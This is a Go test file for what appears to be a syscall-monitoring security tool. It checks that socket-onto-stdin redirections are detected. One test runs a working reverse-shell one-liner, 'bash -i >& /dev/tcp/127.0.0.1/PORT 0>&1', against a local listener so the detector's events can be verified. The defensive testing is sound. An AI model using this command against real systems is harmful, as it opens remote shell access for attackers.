package network

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"os/exec"
	"strconv"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/event"

	"github.com/vigil-sec/vigil/internal/testenv"
)

// TestFdRedirectCalls: a helper connects to the test's listener and puts
// the socket on stdin with dup2, dup3, fcntl(F_DUPFD) and dup; each is an
// fd_redirect naming the peer.
func TestFdRedirectCalls(t *testing.T) {
	w := watch(t, Config{})
	ln := listen(t)
	port := uint16(ln.Addr().(*net.TCPAddr).Port)
	go acceptAndDrain(ln)

	pid := runHelperCmd(t, helper(t, "redirect", strconv.Itoa(int(port))))
	for _, call := range []string{"dup2", "dup3", "fcntl", "dup"} {
		ev := w.waitFor(t, "fd_redirect by "+call, of(event.KindFdRedirect, pid, func(ev *event.Event) bool {
			return ev.Syscall.Name == call
		}))
		if ev.Redirect == nil || ev.Redirect.NewFD != 0 || ev.Redirect.OldFD < 3 {
			t.Errorf("%s: redirect %+v, want a socket fd onto 0", call, ev.Redirect)
		}
		n := ev.Network
		if n.Family != "inet" || n.Protocol != "tcp" || n.DAddr != "127.0.0.1" || n.DPort != port ||
			n.SAddr != "127.0.0.1" || n.SPort == 0 {
			t.Errorf("%s: network %+v, want the connection to 127.0.0.1:%d", call, n, port)
		}
		if ev.Syscall.Ret != 0 {
			t.Errorf("%s returned %d, want 0 (the new fd)", call, ev.Syscall.Ret)
		}
	}
}

// TestReverseShell: the real thing, bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1
// against a listener of the test that tells the shell to exit. bash puts
// the socket on stdout, stderr and stdin.
func TestReverseShell(t *testing.T) {
	w := watch(t, Config{})
	ln := listen(t)
	port := uint16(ln.Addr().(*net.TCPAddr).Port)
	served := make(chan error, 1)
	go func() {
		c, err := ln.Accept()
		if err != nil {
			served <- err
			return
		}
		defer c.Close()
		if _, err := io.WriteString(c, "exit\n"); err != nil {
			served <- err
			return
		}
		_, err = io.Copy(io.Discard, bufio.NewReader(c))
		served <- err
	}()

	script := fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port)
	cmd := exec.Command("/bin/bash", "-c", script)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%s: %v (%s)", script, err, out)
	}
	select {
	case err := <-served:
		if err != nil {
			t.Fatalf("listener: %v", err)
		}
	case <-time.After(testenv.WaitLimit):
		t.Fatal("the shell never closed the connection")
	}

	for _, fd := range []int{1, 2, 0} {
		ev := w.waitFor(t, "fd_redirect onto "+strconv.Itoa(fd), func(ev *event.Event) bool {
			return ev.Kind == event.KindFdRedirect && ev.Network.DPort == port && ev.Redirect.NewFD == fd
		})
		if ev.Syscall.Name != "dup2" || ev.Network.DAddr != "127.0.0.1" || ev.Network.Protocol != "tcp" {
			t.Errorf("onto %d: syscall %+v network %+v, want dup2 of the tcp socket to 127.0.0.1", fd, ev.Syscall, ev.Network)
		}
	}
}

func listen(t *testing.T) net.Listener {
	t.Helper()
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	return ln
}

// acceptAndDrain reads every connection to its end until ln is closed.
func acceptAndDrain(ln net.Listener) {
	for {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		go func() {
			defer c.Close()
			io.Copy(io.Discard, c)
		}()
	}
}
